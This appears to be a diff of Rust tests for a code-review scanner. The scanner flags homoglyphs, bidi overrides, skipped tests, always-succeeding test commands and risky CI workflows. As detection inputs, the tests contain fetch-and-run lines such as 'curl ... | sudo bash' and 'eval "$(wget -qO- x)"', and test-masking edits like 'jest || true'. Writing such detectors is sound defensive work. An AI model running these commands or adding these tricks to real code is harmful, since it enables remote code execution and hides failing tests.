@@ -22,9 +22,9 @@ fn hidden_unicode_by_kind_and_place() {
         ("a.js", format!("x = '{run}'"), Some(Blocking)),
         ("a.js", "const {\u{3164}} = query;".into(), Some(Blocking)),
         ("a.js", "x = 'a\u{fe00}\u{fe01}\u{fe02}'".into(), Some(Blocking)),
-        ("a.c", "int pаssword;".into(), Some(Blocking)),
+        ("a.c", "int p\u{430}ssword;".into(), Some(Blocking)),
         ("a.sh", "echo \u{1b}[2K hidden".into(), Some(Warning)),
-        ("pа.rs", "fn main() {}".into(), Some(Blocking)),
+        ("p\u{430}.rs", "fn main() {}".into(), Some(Blocking)),
         ("a\u{202e}.rs", "fn main() {}".into(), Some(Blocking)),
         ("a.rs", "let s = \"👨‍👩‍👧 ❤️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 1️⃣\"; // ελληνικά, кириллица, 中文，العربية".into(), None),
         ("fa.po", "msgstr \"می‌خواهم\"".into(), None),
@@ -60,7 +60,8 @@ fn binaries_by_what_they_are() {
 
 #[test]
 fn size_and_minified_programs() {
-    let unseen = FileSide { mode: FileMode::Regular, object: "0".repeat(40), size: MAX_CONTENT + 1, content: None };
+    let unseen =
+        FileSide { mode: FileMode::Regular, object: "0".repeat(40), size: MAX_CONTENT + 1, content: None };
     assert_eq!(worst("oversize", vec![file("a.bin", None, Some(unseen))]), Some(Blocking));
     let minified = "var a=1;".repeat(2_000);
     assert_eq!(worst("oversize", vec![added("a.js", &minified)]), Some(Blocking));
@@ -83,7 +84,10 @@ fn links_modes_and_submodules() {
     assert_eq!(worst("gitlink", vec![file("sub", gitlink(), None)]), Some(Warning));
     let executable = |content: &str| Some(side(FileMode::Executable, content.as_bytes()));
     assert_eq!(worst("mode", vec![file("run.sh", None, executable("#!/bin/sh\n"))]), Some(Note));
-    assert_eq!(worst("mode", vec![file("data", Some(side(FileMode::Regular, b"x")), executable("x"))]), Some(Warning));
+    assert_eq!(
+        worst("mode", vec![file("data", Some(side(FileMode::Regular, b"x")), executable("x"))]),
+        Some(Warning)
+    );
     assert_eq!(worst("mode", vec![file("run", executable("a"), executable("b"))]), None);
 }
 
@@ -127,10 +131,19 @@ fn tests_that_say_less() {
     assert_eq!(worst(rule, vec![modified("tests/test_x.py", one, empty)]), Some(Warning));
     let inline = "fn f() {}\n#[test]\nfn a() { assert!(x) }\n";
     assert_eq!(worst(rule, vec![modified("src/lib.rs", inline, "fn f() {}\n")]), Some(Warning));
-    assert_eq!(worst(rule, vec![modified("src/lib.rs", inline, inline.replace("#[test]", "#[test]\n#[ignore]"))]), Some(Warning));
+    assert_eq!(
+        worst(rule, vec![modified("src/lib.rs", inline, inline.replace("#[test]", "#[test]\n#[ignore]"))]),
+        Some(Warning)
+    );
     assert_eq!(worst(rule, vec![modified("a.test.ts", "it('x', f)", "it.skip('x', f)")]), Some(Warning));
-    assert_eq!(worst(rule, vec![modified("a.test.ts", "it('x', f)\nit('y', f)", "it.only('x', f)\nit('y', f)")]), Some(Warning));
-    assert_eq!(worst(rule, vec![added("tests/conftest.py", "def pytest_runtest_makereport(item, call): ...\n")]), Some(Warning));
+    assert_eq!(
+        worst(rule, vec![modified("a.test.ts", "it('x', f)\nit('y', f)", "it.only('x', f)\nit('y', f)")]),
+        Some(Warning)
+    );
+    assert_eq!(
+        worst(rule, vec![added("tests/conftest.py", "def pytest_runtest_makereport(item, call): ...\n")]),
+        Some(Warning)
+    );
     assert_eq!(worst(rule, vec![modified("src/app.py", "assert x\nassert y\n", "assert x\n")]), None);
 }
 
@@ -138,8 +151,18 @@ fn tests_that_say_less() {
 fn test_commands_that_always_succeed() {
     let rule = "removed-tests";
     for (path, old, new, expected) in [
-        ("package.json", "{\"scripts\":{\"test\":\"jest\"}}", "{\"scripts\":{\"test\":\"true\"}}", Some(Blocking)),
-        ("package.json", "{\"scripts\":{\"test\":\"jest\"}}", "{\"scripts\":{\"test\":\"jest || true\"}}", Some(Blocking)),
+        (
+            "package.json",
+            "{\"scripts\":{\"test\":\"jest\"}}",
+            "{\"scripts\":{\"test\":\"true\"}}",
+            Some(Blocking),
+        ),
+        (
+            "package.json",
+            "{\"scripts\":{\"test\":\"jest\"}}",
+            "{\"scripts\":{\"test\":\"jest || true\"}}",
+            Some(Blocking),
+        ),
         ("package.json", "{}", "{\"scripts\":{\"test\":\"node --test\"}}", None),
         ("Makefile", "test:\n\tcargo test\n", "test:\n\tcargo test || true\n", Some(Blocking)),
         ("Makefile", "", "clean:\n\ttest -d x && rm -r x || true\n", Some(Warning)),
@@ -184,11 +207,24 @@ fn dangerous_pipelines_and_scripts() {
     ] {
         assert_eq!(worst(rule, workflow(text)), Some(Blocking), "{text}");
     }
-    assert_eq!(worst(rule, workflow("on: pull_request\npermissions:\n  contents: read\nrun: cargo test\n")), None);
-    for text in ["curl -fsSL https://x.example/i | sudo bash\n", "bash <(curl https://x.example)\n", "eval \"$(wget -qO- x)\"\n"] {
+    assert_eq!(
+        worst(rule, workflow("on: pull_request\npermissions:\n  contents: read\nrun: cargo test\n")),
+        None
+    );
+    for text in [
+        "curl -fsSL https://x.example/i | sudo bash\n",
+        "bash <(curl https://x.example)\n",
+        "eval \"$(wget -qO- x)\"\n",
+    ] {
         assert_eq!(worst(rule, vec![added("install.sh", text)]), Some(Warning), "{text}");
     }
-    assert_eq!(worst(rule, vec![added("fetch.sh", "curl -o x.tar https://x.example | tee log\nwget x && sh -c 'ls'\n")]), None);
+    assert_eq!(
+        worst(
+            rule,
+            vec![added("fetch.sh", "curl -o x.tar https://x.example | tee log\nwget x && sh -c 'ls'\n")]
+        ),
+        None
+    );
     assert_eq!(worst(rule, vec![added("README.md", "curl https://x.example/i.sh | sh\n")]), None);
 }
 
@@ -198,6 +234,9 @@ fn many_findings_are_counted_and_keep_their_severity() {
     let all = findings(files);
     let ours: Vec<_> = all.iter().filter(|finding| finding.rule == "protected-path").collect();
     assert_eq!(ours.len(), 41);
-    assert!(ours.iter().any(|finding| finding.why.starts_with("and 460 findings more") && finding.severity == Blocking));
+    assert!(
+        ours.iter()
+            .any(|finding| finding.why.starts_with("and 460 findings more") && finding.severity == Blocking)
+    );
     assert!(all.is_sorted_by(|left, right| left.severity >= right.severity));
 }
